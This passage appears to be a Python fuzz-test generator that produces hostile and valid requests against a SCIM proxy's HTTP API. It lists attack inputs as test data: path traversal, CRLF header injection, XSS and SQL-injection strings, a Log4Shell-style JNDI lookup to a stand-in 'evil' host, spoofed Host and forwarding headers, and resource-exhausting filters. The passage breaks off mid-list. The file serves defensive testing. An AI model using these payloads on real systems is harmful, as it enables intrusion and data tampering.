"""A seeded generator of hostile (and some valid) requests to the proxy's HTTP surface.

``random.Random`` rather than hypothesis: ten thousand requests must be produced and sent
in seconds. Every choice comes from one seeded generator, so a seed replays a run exactly
(up to the ids the simulator hands out, which are themselves deterministic).

A request is sent either through ``httpx.ASGITransport`` (``raw=False``: what a real
client can put on the wire; httpx percent-encodes and removes dot segments) or as a
hand-built ASGI scope (``raw=True``: what a permissive server could hand the app,
literal ``..`` segments, control characters, non-ASCII header bytes, a lying
``Content-Length``, a body in many chunks).
"""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, urlencode

import orjson

from scim_proxy.scim.models import GROUP_SCHEMA, PATCH_OP_SCHEMA, USER_SCHEMA

ENTERPRISE = "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"

Header = tuple[str, str | bytes]

# -- building blocks -------------------------------------------------------------------

FULLWIDTH_USERS = "\uff55\uff53\uff45\uff52\uff53"  # "users" in fullwidth letters
CYRILLIC_ADMIN = "\u0430dmin"  # Cyrillic "a" + "dmin"

HOSTILE_IDS: list[str] = [
    "/",
    "//",
    ".",
    "..",
    "...",
    "../users",
    "../../users",
    "../user-groups",
    "..\\..\\users",
    "%2F",
    "%2f",
    "%2e%2e",
    "%2e%2e%2fusers",
    "%252e%252e",
    "%252F",
    "?",
    "?email=x",
    "#",
    "#frag",
    "\\",
    "\\..\\",
    "\x00",
    "a\x00b",
    "\r\n",
    "a\r\nX-Injected: 1",
    "\t",
    "\x7f",
    "\x1b[31m",
    " ",
    "%",
    "%%",
    "%zz",
    "%u002e",
    "users",
    "user-groups",
    "Users",
    ".search",
    "Me",
    "*",
    "~",
    "$ref",
    ";",
    "a;b=c",
    "a,b",
    "a&b=c",
    "a=b",
    FULLWIDTH_USERS,
    CYRILLIC_ADMIN,
    "\u2024\u2024",  # one-dot leaders that look like ".."
    "\uff0e\uff0e",  # fullwidth full stops
    "\u2215",  # division slash
    "\uff0f",  # fullwidth solidus
    "\ufe68",  # small reverse solidus
    "\u200b",
    "\u202eresu",
    "a\u0301",
    "\U0001f600",
    "\u0130",
    "\u212a",  # Kelvin sign, a look-alike of K
    "\ufeff",
    "0",
    "-1",
    "1e3",
    "null",
    "undefined",
    "true",
    "[]",
    "{}",
    "<script>alert(1)</script>",
    "' or '1'='1",
    "${jndi:ldap://evil/x}",
    "{{7*7}}",
    "a" * 129,
    "a" * 4096,
    "A-_" * 43,
]

HOSTILE_STRINGS: list[str] = [
    *HOSTILE_IDS[:60],
    "",
    "x@y",
    "@",
    "a@b@c",
    "\x00@example.com",
    "user@exa\u0301mple.com",
    "user@\uff45xample.com",
    "user name@example.com",
    "USER@EXAMPLE.COM",
    "owner@example.com",
    "a" * 300 + "@example.com",
    "x" * 1000,
]

GIVEN = ["Ada", "Zo\u00eb", "Jos\u00e9", "\u674e", "O'Brien", "Anne-Marie", "", " ", "X" * 255]
FAMILY = ["Lovelace", "M\u00fcller", "\u738b", "de la Cruz", "", "Smith\u200b", "Y" * 300]

FILTER_TEMPLATES = [
    'userName eq "{email}"',
    'userName eq "{string}"',
    'userName eq "x" or 1 eq 1',
    'userName eq "x" or "1" eq "1"',
    ") or (",
    '") or (userName pr',
    'userName eq "x") or (userName pr',
    'userName eq "unbalanced',
    'userName eq "x"" or ""="',
    "userName eq 'single'",
    "userName eq x",
    "userName eq",
    "eq",
    '"',
    "(",
    ")",
    "[",
    "]",
    'id eq "{id}"',
    'id eq "{hostile}"',
    'id eq "../user-groups/{id}"',
    'emails[type eq "work"].value eq "{email}"',
    'emails[value eq "{email}"]',
    'emails[type eq "work" and value co "@"]',
    'emails[type eq "work"',
    'emails[type eq "work"]]',
    'emails[emails[value eq "x"]]',
    'name.givenName sw "A"',
    'name.givenName sw "{string}"',
    "not (active eq false)",
    'active eq true and userName co "@"',
    'meta.lastModified gt "2020-01-01T00:00:00Z"',
    'meta.created gt "not-a-date"',
    "userName gt 5",
    'active eq "yes"',
    "active eq null",
    'password eq "x"',
    'title eq "x"',
    f'{ENTERPRISE}:employeeNumber eq "1"',
    f'{USER_SCHEMA}:userName eq "{{email}}"',
    'urn:evil:userName eq "x"',
    'displayName eq "{group}"',
    'displayName eq "{string}"',
    'displayName co ""',
    'members[value eq "{id}"]',
    'members.value eq "{id}"',
    'externalId eq "x"',
    'userName eq "{email}&user_group_id={id}"',
    'userName eq "a@b.c\\""',
    'userName eq "\\u0000"',
    'userName eq "\\ud800"',
    'userName eq "{email}" or userName eq "{email}"',
    'groups.value eq "{id}"',
    "userName pr",
    "emails pr",
    'USERNAME EQ "{email}"',
    'userName  eq   "{email}"',
    'userName eq "{email}" and not (userName eq "{email}")',
    'id eq "{id}" and id eq "{id}"',
    'userName ne "x" or userName lt "z" or userName le "z" or userName ge "a" or userName ew "m"',
    "userName eq 1.5e308",
    "userName eq -0",
    "userName eq true",
    "userName eq []",
    'userName eq "x" or',
    'or userName eq "x"',
    'not userName eq "x"',
    'not(userName eq "x")',
]


def _b64(text: str | bytes) -> str:
    raw = text.encode("utf-8") if isinstance(text, str) else text
    return base64.b64encode(raw).decode("ascii")


# -- requests --------------------------------------------------------------------------


@dataclass
class FuzzRequest:
    """One generated request."""

    kind: str
    """A label for the statistics: which generator produced it."""
    method: str
    path: str
    """The path as put on the wire (its percent-encoding is part of the test)."""
    query: str = ""
    headers: list[Header] = field(default_factory=list)
    body: bytes | None = None
    raw: bool = False
    chunks: int = 1
    """How many ``http.request`` messages carry the body (raw mode only)."""

    def describe(self, limit: int = 600) -> str:
        """A short, printable description for failure reports."""
        body = self.body if self.body is None or len(self.body) <= 300 else self.body[:300]
        size = "" if self.body is None else f" ({len(self.body)} bytes)"
        text = (
            f"[{self.kind}{' raw' if self.raw else ''}] {self.method} {self.path!r}"
            f"{' ?' + repr(self.query) if self.query else ''} headers={self.headers!r} "
            f"body={body!r}{size}"
        )
        return text if len(text) <= limit else text[:limit] + "..."


@dataclass
class Pools:
    """What the run has learnt so far: real ids, emails and group names."""

    users: list[str] = field(default_factory=list)
    groups: list[str] = field(default_factory=list)
    emails: list[str] = field(default_factory=list)
    group_names: list[str] = field(default_factory=list)
    counter: int = 0

    def next_number(self) -> int:
        """A number never used before in this run (for unique emails and names)."""
        self.counter += 1
        return self.counter

    def add(self, kind: str, resource_id: str, label: str | None) -> None:
        """Remember a resource seen in a response."""
        ids, labels = (
            (self.users, self.emails) if kind == "User" else (self.groups, self.group_names)
        )
        if resource_id not in ids:
            ids.append(resource_id)
            del ids[:-300]
        if label and label not in labels:
            labels.append(label)
            del labels[:-300]

    def forget(self, kind: str, resource_id: str) -> None:
        """Drop a deleted resource."""
        ids = self.users if kind == "User" else self.groups
        if resource_id in ids:
            ids.remove(resource_id)


class HostileRequests:
    """Produces :class:`FuzzRequest` objects from one seeded generator."""

    def __init__(self, seed: int, token: str, pools: Pools) -> None:
        self.rng = random.Random(seed)
        self.token = token
        self.pools = pools
        self.heavy = _heavy_bodies()

    # -- small helpers ------------------------------------------------------------------

    def chance(self, p: float) -> bool:
        """True with probability ``p``."""
        return self.rng.random() < p

    def real_user(self) -> str:
        """An existing user id (or a made-up safe one when none is known)."""
        return self.rng.choice(self.pools.users) if self.pools.users else "u0000000000000000000001"

    def real_group(self) -> str:
        """An existing group id (or a made-up safe one when none is known)."""
        return self.rng.choice(self.pools.groups) if self.pools.groups else "g000000000000000000001"

    def real_email(self) -> str:
        """A known email address."""
        return self.rng.choice(self.pools.emails) if self.pools.emails else "owner@example.com"

    def real_id(self) -> str:
        """An existing user or group id."""
        return self.real_user() if self.chance(0.6) else self.real_group()

    def hostile_string(self) -> str:
        """A string meant to hurt whatever reads it."""
        rng = self.rng
        roll = rng.random()
        if roll < 0.6:
            return rng.choice(HOSTILE_STRINGS)
        if roll < 0.8:
            alphabet = "./\\%?#&=;:@ \x00\x01\r\n\t\"'<>[](){}*~\u200b\uff0f\u0430a1-_"
            return "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 40)))
        if roll < 0.9:
            return self.real_email()
        return self.real_id()

    def hostile_id(self) -> str:
        """An id for a ``/Users/{id}`` or ``/Groups/{id}`` path, decoded."""
        rng = self.rng
        roll = rng.random()
        if roll < 0.3:
            return self.real_id()
        if roll < 0.55:
            real = self.real_id()
            return rng.choice(
                [
                    f"{real}/",
                    f"{real}/..",
                    f"../{real}",
                    f"{real}/../../users",
                    f"{real}\x00",
                    f"{real}?x=1",
                    f"{real}#x",
                    f"{real};x",
                    f"{real}.json",
                    f" {real}",
                    f"{real} ",
                    f"{real}\n",
                    f"{real}\u200b",
                    real.upper(),
                    "".join(chr(ord(c) + 0xFEE0) if c.isalnum() else c for c in real),
                    real * 20,
                    f"{real}/{real}",
                    f"{real}%2F..",
                    f"{real}\\..",
                ]
            )
        if roll < 0.9:
            return rng.choice(HOSTILE_IDS)
        if roll < 0.95:
            return rng.choice(["a", "0", "-", "_", "5f" * 12, "5f" * 12 + "5", "A" * 128])
        return rng.choice(["x", "%", "A", ".", "\u0430"]) * rng.choice([200, 2000, 20000])

    def encode_segment(self, segment: str) -> str:
        """``segment`` as a path segment, percent-encoded one of several ways (or not)."""
        rng = self.rng
        roll = rng.random()
        if roll < 0.5:
            return quote(segment, safe="")
        if roll < 0.62:
            return quote(segment, safe="/")
        if roll < 0.7:
            return quote(segment, safe="/?#\\;")
        if roll < 0.8:
            return quote(quote(segment, safe=""), safe="")
        if roll < 0.85:
            return quote(segment, safe="").lower()
        return segment

    # -- the request mix ----------------------------------------------------------------

    def next(self) -> FuzzRequest:
        """The next request."""
        rng = self.rng
        roll = rng.random()
        if roll < 0.22:
            request = self.valid()
        elif roll < 0.40:
            request = self.hostile_path()
        elif roll < 0.55:
            request = self.hostile_query()
        elif roll < 0.87:
            request = self.hostile_body()
        else:
            request = self.hostile_headers()
        if not request.raw and self.chance(0.12):
            request.raw = True
        if request.raw and request.body and self.chance(0.5):
            request.chunks = rng.randint(2, 8)
        return request

    # -- valid requests ------------------------------------------------------------------

    def _standard_headers(self, *, json_body: bool) -> list[Header]:
        headers: list[Header] = [("Authorization", f"Bearer {self.token}")]
        if json_body:
            headers.append(("Content-Type", "application/scim+json"))
        return headers

    def user_body(self, *, email: str | None = None) -> dict[str, Any]:
        """A well-formed SCIM User body with a fresh email unless one is given."""
        rng = self.rng
        number = self.pools.next_number()
        email = email or f"fuzz.{number}@example.com"
        body: dict[str, Any] = {"schemas": [USER_SCHEMA], "userName": email}
        if self.chance(0.8):
            body["name"] = {
                "givenName": rng.choice(GIVEN[:6]),
                "familyName": rng.choice(FAMILY[:4]),
            }
        if self.chance(0.7):
            body["emails"] = [{"value": email, "type": "work", "primary": True}]
        if self.chance(0.5):
            body["active"] = self.chance(0.8)
        if self.chance(0.4):
            body["password"] = f"Fuzz-Passw0rd!{number}"
        if self.chance(0.15):
            body["displayName"] = "Display Name"
        if self.chance(0.1):
            body["externalId"] = f"ext-{number}"
            body["schemas"].append(ENTERPRISE)
            body[ENTERPRISE] = {"employeeNumber": str(number), "department": "QA"}
        return body

    def group_body(self, *, fresh: bool = True) -> dict[str, Any]:
        """A well-formed SCIM Group body with a few real members, by default a fresh name."""
        number = self.pools.next_number()
        name = f"fuzz-group-{number}"
        if not fresh and self.pools.group_names:
            name = self.rng.choice(self.pools.group_names)
        body: dict[str, Any] = {"schemas": [GROUP_SCHEMA], "displayName": name}
        if self.chance(0.5) and self.pools.users:
            members = self.rng.sample(self.pools.users, k=min(len(self.pools.users), 2))
            body["members"] = [{"value": m} for m in members]
        return body

    def valid(self) -> FuzzRequest:
        """A request an IdP could send; it changes the simulator's state."""
        rng = self.rng
        choice = rng.choices(
            [
                "create-user",
                "get-user",
                "list-users",
                "filter-users",
                "patch-user",
                "put-user",
                "delete-user",
                "create-group",
                "get-group",
                "list-groups",
                "patch-group-members",
                "rename-group",
                "put-group",
                "delete-group",
                "discovery",
            ],
            weights=[10, 10, 6, 8, 16, 6, 7, 2, 5, 3, 3, 3, 1, 2, 4],
        )[0]
        user, group = self.real_user(), self.real_group()

        def req(method: str, path: str, body: Any = None, query: str = "") -> FuzzRequest:
            content = None if body is None else orjson.dumps(body)
            return FuzzRequest(
                kind=f"valid:{choice}",
                method=method,
                path="/scim/v2" + path,
                query=query,
                headers=self._standard_headers(json_body=content is not None),
                body=content,
            )

        if choice == "create-user":
            return req("POST", "/Users", self.user_body())
        if choice == "get-user":
            return req("GET", f"/Users/{user}")
        if choice == "list-users":
            query = urlencode({"startIndex": rng.randint(1, 30), "count": rng.randint(0, 20)})
            return req("GET", "/Users", query=query)
        if choice == "filter-users":
            text = rng.choice(
                [
                    f'userName eq "{self.real_email()}"',
                    f'id eq "{user}"',
                    f'emails[type eq "work"].value eq "{self.real_email()}"',
                    'userName sw "fuzz"',
                    "active eq false",
                ]
            )
            return req("GET", "/Users", query=urlencode({"filter": text}, quote_via=quote))
        if choice == "patch-user":
            operations = rng.choice(
                [
                    [{"op": "replace", "value": {"active": self.chance(0.5)}}],
                    [{"op": "Replace", "path": "active", "value": rng.choice(["True", "False"])}],
                    [{"op": "replace", "path": "name.givenName", "value": rng.choice(GIVEN[:6])}],
                    [{"op": "add", "path": "name.familyName", "value": rng.choice(FAMILY[:4])}],
                    [
                        {
                            "op": "replace",
                            "path": 'emails[type eq "work"].value',
                            "value": f"fuzz.{self.pools.next_number()}@example.com",
                        }
                    ],
                    [{"op": "replace", "path": "displayName", "value": "Ignored"}],
                    [
                        {
                            "op": "replace",
                            "value": {"name.givenName": "Okta", "name.familyName": "Style"},
                        }
                    ],
                ]
            )
            return req(
                "PATCH", f"/Users/{user}", {"schemas": [PATCH_OP_SCHEMA], "Operations": operations}
            )
        if choice == "put-user":
            body = self.user_body(email=self.real_email() if self.chance(0.3) else None)
            body["id"] = user
            return req("PUT", f"/Users/{user}", body)
        if choice == "delete-user":
            return req("DELETE", f"/Users/{user}")
        if choice == "create-group":
            return req("POST", "/Groups", self.group_body())
        if choice == "get-group":
            query = rng.choice(["", "excludedAttributes=members", "attributes=displayName"])
            return req("GET", f"/Groups/{group}", query=query)
        if choice == "list-groups":
            query = rng.choice(
                ["", "excludedAttributes=members", f"filter=displayName+eq+%22{group}%22"]
            )
            return req("GET", "/Groups", query=query)
        if choice == "patch-group-members":
            member = {"value": user}
            operations = rng.choice(
                [
                    [{"op": "add", "path": "members", "value": [member]}],
                    [{"op": "remove", "path": f'members[value eq "{user}"]'}],
                    [{"op": "Remove", "path": "members", "value": [member]}],
                    [{"op": "add", "value": {"members": [member]}}],
                ]
            )
            return req(
                "PATCH",
                f"/Groups/{group}",
                {"schemas": [PATCH_OP_SCHEMA], "Operations": operations},
            )
        if choice == "rename-group":
            name = f"fuzz-renamed-{self.pools.next_number()}"
            operations = rng.choice(
                [
                    [{"op": "replace", "value": {"id": group, "displayName": name}}],
                    [{"op": "Replace", "path": "displayName", "value": name}],
                ]
            )
            return req(
                "PATCH",
                f"/Groups/{group}",
                {"schemas": [PATCH_OP_SCHEMA], "Operations": operations},
            )
        if choice == "put-group":
            body = self.group_body()
            body["id"] = group
            return req("PUT", f"/Groups/{group}", body)
        if choice == "delete-group":
            return req("DELETE", f"/Groups/{group}")
        path = rng.choice(
            [
                "/ServiceProviderConfig",
                "/ResourceTypes",
                "/ResourceTypes/User",
                "/Schemas",
                f"/Schemas/{USER_SCHEMA}",
                f"/Schemas/{GROUP_SCHEMA}",
            ]
        )
        return req("GET", path)

    # -- hostile paths -------------------------------------------------------------------

    def method(self) -> str:
        """Any method, weighted towards the ones the surface serves."""
        return self.rng.choices(
            [
                "GET",
                "POST",
                "PUT",
                "PATCH",
                "DELETE",
                "HEAD",
                "OPTIONS",
                "TRACE",
                "CONNECT",
                "PROPFIND",
                "MKCOL",
                "PURGE",
                "QUERY",
                "FOO",
            ],
            weights=[30, 14, 10, 14, 10, 6, 4, 2, 1, 1, 1, 1, 1, 1],
        )[0]

    def prefix(self) -> str:
        """The SCIM base path, usually as configured."""
        return self.rng.choices(
            [
                "/scim/v2",
                "//scim/v2/",
                "/scim/v2//",
                "/scim//v2",
                "/SCIM/v2",
                "/scim/V2",
                "/scim/v2/.",
                "/scim/./v2",
                "/scim/v2/%2e",
                "/scim/v1",
                "/scim",
                "",
                "/scim/v2/..",
                "/scim/v2%2F",
                "/%73cim/v2",
            ],
            weights=[70, 3, 3, 2, 2, 2, 2, 2, 2, 2, 2, 2, 2, 2, 2],
        )[0]

    def hostile_path(self) -> FuzzRequest:
        """A path under /scim/v2 with a hostile id or an unknown endpoint."""
        rng = self.rng
        resource = rng.choice(["Users", "Groups", "users", "USERS", "Groups", "Users"])
        segment = self.encode_segment(self.hostile_id())
        roll = rng.random()
        if roll < 0.7:
            rest = f"/{resource}/{segment}"
        elif roll < 0.8:
            rest = f"/{resource}/{segment}/{self.encode_segment(self.hostile_id())}"
        elif roll < 0.85:
            rest = f"/{resource}/{self.real_id()}/members"
        else:
            rest = rng.choice(
                [
                    "",
                    "/",
                    "/Unknown",
                    "/Bulk",
                    "/Me",
                    "/.search",
                    "/Users/.search",
                    "/Groups/.search",
                    "/ResourceTypes/" + segment,
                    "/Schemas/" + segment,
                    "/Schemas/urn:ietf:params:scim:schemas:core:2.0:User/extra",
                    "/ServiceProviderConfig/" + segment,
                    "/ServiceProviderConfigs",
                    "/users/" + segment,
                    "/user-groups/" + segment,
                    "/../../users",
                    "/..%2F..%2Fusers",
                    "/healthz",
                ]
            )
        method = self.method()
        body = None
        headers = self._standard_headers(json_body=False)
        if method in ("POST", "PUT", "PATCH") or self.chance(0.05):
            body = orjson.dumps(self.any_json_body(resource))
            headers.append(("Content-Type", "application/scim+json"))
        raw = self.chance(0.35) or any(ord(c) < 0x20 or c == "\x7f" for c in segment)
        return FuzzRequest("path", method, self.prefix() + rest, "", headers, body, raw=raw)

    # -- hostile queries -----------------------------------------------------------------

    def filter_text(self) -> str:
        """A filter, from injection templates, a grammar, or garbage."""
        rng = self.rng
        roll = rng.random()
        if roll < 0.55:
            return rng.choice(FILTER_TEMPLATES).format(
                email=self.real_email(),
                string=self.hostile_string().replace("{", "").replace("}", ""),
                id=self.real_id(),
                hostile=self.hostile_id().replace('"', ""),
                group=self.rng.choice(self.pools.group_names or ["Admin"]),
            )
        if roll < 0.65:
            depth = rng.choice([10, 100, 500, 1000, 1000, 2000])
            opener = rng.choice(["(", "not (", "not(", "emails["])
            closer = {"(": ")", "not (": ")", "not(": ")", "emails[": "]"}[opener]
            return opener * depth + 'value eq "x"' + closer * depth
        if roll < 0.75:
            term = rng.choice(['id eq "{0}"', 'userName eq "{0}"', 'emails.value eq "{0}"'])
            count = rng.choice([2, 11, 50, 300])
            joiner = rng.choice([" or ", " and "])
            return joiner.join(term.format(self.real_id()) for _ in range(count))
        if roll < 0.8:
            return rng.choice(["a", "(", '"', 'userName eq "x" and ']) * rng.choice(
                [1000, 5000, 50000]
            )
        if roll < 0.9:
            return "".join(rng.choice("()[]\"' .andornoteqprswco\\\x00\u0430") for _ in range(60))
        return grammar_filter(rng)

    def hostile_query(self) -> FuzzRequest:
        """A listing (or any route) with hostile query parameters."""
        rng = self.rng
        pairs: list[tuple[str, str]] = []
        for _ in range(rng.randint(1, 5)):
            name = rng.choice(
                [
                    "filter",
                    "filter",
                    "filter",
                    "FILTER",
                    "startIndex",
                    "startindex",
                    "count",
                    "COUNT",
                    "attributes",
                    "excludedAttributes",
                    "excludedattributes",
                    "sortBy",
                    "sortOrder",
                    "page",
                    "per_page",
                    "email",
                    "user_group_id",
                    "name",
                    "",
                    "filter[]",
                    "a" * 500,
                ]
            )
            pairs.append((name, self.query_value(name.lower())))
        if self.chance(0.7):
            query = urlencode(pairs, quote_via=quote)
        elif self.chance(0.5):
            query = "&".join(f"{k}={v}" for k, v in pairs)
        else:
            query = rng.choice(["&&&", "=", "filter", "filter=&filter=", "%", "%zz=1", "a=%ff%fe"])
        resource = rng.choice(
            ["Users", "Users", "Users", "Groups", "Groups", "ServiceProviderConfig"]
        )
        path = f"/scim/v2/{resource}"
        if self.chance(0.2):
            path += "/" + self.encode_segment(self.real_id())
        method = rng.choices(["GET", "HEAD", "DELETE", "PATCH", "POST"], weights=[85, 5, 3, 4, 3])[
            0
        ]
        body = None
        headers = self._standard_headers(json_body=False)
        if method in ("PATCH", "POST"):
            body = orjson.dumps(self.any_json_body(resource))
            headers.append(("Content-Type", "application/scim+json"))
        return FuzzRequest("query", method, path, query, headers, body, raw=self.chance(0.1))

    def query_value(self, name: str) -> str:
        """A value for the query parameter ``name``."""
        rng = self.rng
        if name == "filter":
            return self.filter_text()
        if name in ("startindex", "count", "page", "per_page"):
            return rng.choice(
                [
                    "1",
                    "0",
                    "-1",
                    "-99999999999999999999",
                    "99999999999999999999999",
                    "9" * 5000,
                    "2147483648",
                    "1e3",
                    "0x10",
                    "1.5",
                    "",
                    " ",
                    "abc",
                    "\u0661\u0662",  # Arabic-Indic digits: int() reads them
                    "\u00b2",  # superscript two: isdigit() but not int()
                    "1_000",
                    "+5",
                    " 7 ",
                    "NaN",
                    "\u221e",
                    "1\x00",
                    "1&count=5",
                ]
            )
        if name in ("attributes", "excludedattributes"):
            return rng.choice(
                [
                    "userName,emails",
                    "garbage",
                    "",
                    ",,,",
                    f"{USER_SCHEMA}:userName",
                    "name.givenName",
                    'emails[type eq "work"].value',
                    "members",
                    "members.value",
                    "meta.location",
                    "password",
                    "id",
                    "schemas",
                    "a" * 5000,
                    "]][[",
                    "urn:evil:x",
                    "userName," * 500,
                    "\x00",
                    f"{ENTERPRISE}:employeeNumber",
                ]
            )
        return self.hostile_string()

    # -- hostile bodies ------------------------------------------------------------------

    def any_json_body(self, resource: str) -> Any:
        """A JSON-able body: valid-looking, mutated, or random."""
        roll = self.rng.random()
        base: dict[str, Any]
        if roll < 0.35:
            base = self.patch_body()
        elif roll < 0.7:
            base = self.user_body() if resource.lower() == "users" else self.group_body()
        else:
            return self.random_json(3)
        return self.mutate(base) if self.chance(0.7) else base

    def random_json(self, depth: int) -> Any:
        """A random JSON value, at most ``depth`` containers deep."""
        rng = self.rng
        roll = rng.random()
        if depth > 0 and roll < 0.25:
            return {
                rng.choice(EXTRA_KEYS): self.random_json(depth - 1)
                for _ in range(rng.randint(0, 4))
            }
        if depth > 0 and roll < 0.4:
            return [self.random_json(depth - 1) for _ in range(rng.randint(0, 4))]
        return self.scalar()

    def scalar(self) -> Any:
        """A JSON scalar, often of the wrong type for where it lands."""
        rng = self.rng
        roll = rng.random()
        if roll < 0.5:
            return rng.choice(WRONG_SCALARS)
        return self.hostile_string()

    def mutate(self, value: Any, depth: int = 0) -> Any:
        """``value`` with some attributes given wrong types, dropped, or added."""
        rng = self.rng
        if isinstance(value, dict) and depth < 4:
            out = dict(value)
            for _ in range(rng.randint(1, 3)):
                roll = rng.random()
                if out and roll < 0.55:
                    key = rng.choice(list(out))
                    out[key] = (
                        self.mutate(out[key], depth + 1)
                        if self.chance(0.4)
                        else self.random_json(2)
                    )
                elif out and roll < 0.7:
                    del out[rng.choice(list(out))]
                else:
                    out[rng.choice(EXTRA_KEYS)] = self.random_json(2)
            return out
        if isinstance(value, list) and value and depth < 4:
            out_list = list(value)
            index = rng.randrange(len(out_list))
            out_list[index] = self.mutate(out_list[index], depth + 1)
            if self.chance(0.3):
                out_list.append(self.random_json(2))
            return out_list
        return self.random_json(2)

    def patch_body(self) -> dict[str, Any]:
        """A PatchOp with garbage operations, paths and values."""
        rng = self.rng
        operations = [self.patch_operation() for _ in range(rng.randint(1, 4))]
        body: dict[str, Any] = {"schemas": [PATCH_OP_SCHEMA], "Operations": operations}
        roll = rng.random()
        if roll < 0.05:
            body["Operations"] = rng.choice([None, {}, "add", 1, [], [[]], [None]])
        elif roll < 0.1:
            body["operations"] = body.pop("Operations")
        elif roll < 0.15:
            body["schemas"] = rng.choice([[], ["urn:evil"], "x", [1], [USER_SCHEMA], None])
        elif roll < 0.2:
            del body["schemas"]
        return body

    def patch_operation(self) -> Any:
        """One PATCH operation, more or less well-formed."""
        rng = self.rng
        if self.chance(0.05):
            return self.random_json(2)
        operation: dict[str, Any] = {}
        if self.chance(0.95):
            operation["op"] = rng.choice(PATCH_OPS)
        path = rng.choice(PATCH_PATHS)
        if isinstance(path, str):
            path = path.format(id=self.real_id(), id2=self.hostile_id().replace('"', ""))
        if path is not None or self.chance(0.3):
            operation["path"] = path
        if self.chance(0.85):
            operation["value"] = self.patch_value()
        return operation

    def patch_value(self) -> Any:
        """A value for a PATCH operation: members, attributes, or anything."""
        rng = self.rng
        roll = rng.random()
        if roll < 0.25:
            members = [
                {"value": self.hostile_id() if self.chance(0.5) else self.real_user()}
                for _ in range(rng.randint(0, 3))
            ]
            if self.chance(0.2):
                members.append(self.random_json(1))
            return members if self.chance(0.8) else (members[0] if members else {})
        if roll < 0.45:
            return {
                rng.choice(PATCH_VALUE_KEYS).format(id=self.real_id()): self.random_json(1)
                for _ in range(rng.randint(1, 3))
            }
        return self.random_json(2)

    def content_type(self) -> str | None:
        """A ``Content-Type`` for a request with a body."""
        return self.rng.choices(
            [
                "application/scim+json",
                "application/json",
                None,
                "application/json; charset=latin1",
                "application/scim+json; charset=utf-8",
                "application/json; charset=utf-16",
                "text/plain",
                "application/xml",
                "multipart/form-data; boundary=xyz",
                "application/x-www-form-urlencoded",
                "application/vnd.evil+json",
                "APPLICATION/SCIM+JSON",
                "",
                ";",
                "application/json, text/plain",
                "application/json; boundary=\x00",
                "*/*",
            ],
            weights=[40, 15, 6, 3, 3, 2, 4, 3, 3, 2, 2, 2, 2, 2, 2, 1, 2],
        )[0]

    def hostile_body(self) -> FuzzRequest:
        """A write with a hostile body."""
        rng = self.rng
        resource = rng.choice(["Users", "Groups"])
        method = rng.choices(["POST", "PUT", "PATCH", "DELETE", "GET"], weights=[35, 20, 40, 3, 2])[
            0
        ]
        path = f"/scim/v2/{resource}"
        if method != "POST" or self.chance(0.05):
            if self.chance(0.85):
                path += "/" + (self.real_user() if resource == "Users" else self.real_group())
            else:
                path += "/" + self.encode_segment(self.hostile_id())
        roll = rng.random()
        kind = "body"
        if roll < 0.15:
            body: bytes = rng.choice(MALFORMED)
            kind = "body:malformed"
        elif roll < 0.22:
            index = rng.randrange(len(self.heavy))
            body = self.heavy[index]
            kind = f"body:heavy{index}"
        elif roll < 0.35:
            body = orjson.dumps(self.random_json(4))
            kind = "body:random"
        elif method == "PATCH" and roll < 0.85:
            patch = self.patch_body()
            body = orjson.dumps(self.mutate(patch) if self.chance(0.3) else patch)
            kind = "body:patch"
        else:
            kind = "body:resource"
            base = (
                self.user_body()
                if resource == "Users"
                else self.group_body(fresh=self.chance(0.25))
            )
            if self.chance(0.2):
                base["schemas"] = rng.choice(
                    [[], ["urn:evil:schema"], [GROUP_SCHEMA], "x", [None], [USER_SCHEMA] * 50]
                )
            body = orjson.dumps(self.mutate(base) if self.chance(0.75) else base)
        headers: list[Header] = [("Authorization", f"Bearer {self.token}")]
        content_type = self.content_type()
        if content_type is not None:
            headers.append(("Content-Type", content_type))
        return FuzzRequest(kind, method, path, "", headers, body)

    # -- hostile headers -----------------------------------------------------------------

    def hostile_headers(self) -> FuzzRequest:
        """A valid or near-valid request with hostile headers."""
        rng = self.rng
        request = self.valid() if self.chance(0.7) else self.hostile_path()
        request.kind = "headers"
        headers: list[Header] = [h for h in request.headers if h[0] != "Authorization"]
        token = self.token
        auth: str | bytes | None = rng.choice(
            [
                f"Bearer {token}",
                f"Bearer {token}",
                None,
                "",
                "Bearer",
                "Bearer ",
                "Bearer wrong-token",
                f"bearer {token}",
                f"Token {token}",
                f"Basic {_b64(token + ':')}",
                f"Basic {_b64(':' + token)}",
                "Basic !!!notbase64",
                "Basic " + _b64(b"\xff\xfe"),
                "Digest username=x",
                f"Bearer {token} extra",
                f"Bearer {token}\r\nX-Injected: 1",
                "Bearer " + "x" * 5000,
                "Bearer \x00",
                f"Bearer\t{token}",
                f"Bearer {token},Bearer other",
                "Negotiate YII=",
                "Bearer t\u00f6k\u00e9n".encode(),
                b"Bearer \xff\xfe",
                f"Bearer {token}/../../users",
                "Bearer ../../users",
            ]
        )
        if auth is not None:
            headers.append(("Authorization", auth))
        if self.chance(0.1):
            headers.append(("Authorization", "Bearer second-token"))
        for _ in range(rng.randint(1, 4)):
            headers.append(rng.choice(self.evil_headers()))
        request.headers = headers
        if any(isinstance(v, bytes) or not v.isascii() for _, v in headers):
            request.raw = True
        if any(name.lower() in RAW_ONLY_HEADERS for name, _ in headers):
            request.raw = True
        return request

    def evil_headers(self) -> list[Header]:
        """Headers that try to move, re-route or confuse the request."""
        return [
            ("Host", "evil.example"),
            ("Host", "telemetrytv.test"),
            ("Host", "127.0.0.1:22"),
            ("Host", "proxy.test:99999"),
            ("Host", "[::1]:80"),
            ("Host", ""),
            ("Host", "a" * 300),
            ("Host", "evil.example/../users"),
            ("Host", "proxy.test@evil.example"),
            ("Host", b"evil\xff.example"),
            ("Host", "evil.example\r\nX-Injected: 1"),
            ("X-Forwarded-Host", "evil.example"),
            ("X-Forwarded-Host", "telemetrytv.test/users"),
            ("X-Forwarded-Proto", "gopher"),
            ("X-Forwarded-Proto", "javascript"),
            ("X-Forwarded-Port", "-1"),
            ("X-Forwarded-Prefix", "/../users"),
            ("X-Forwarded-For", "1.2.3.4, evil"),
            ("Forwarded", "for=1.2.3.4;host=evil.example;proto=https"),
            ("X-Original-URL", "/users/x"),
            ("X-Rewrite-URL", "/user-groups"),
            ("X-HTTP-Method-Override", "DELETE"),
            ("X-HTTP-Method", "DELETE"),
            ("X-Request-ID", "../../\r\nX: 1"),
            ("X-Request-ID", "a" * 5000),
            ("traceparent", "00-" + "0" * 32 + "-" + "0" * 16 + "-01"),
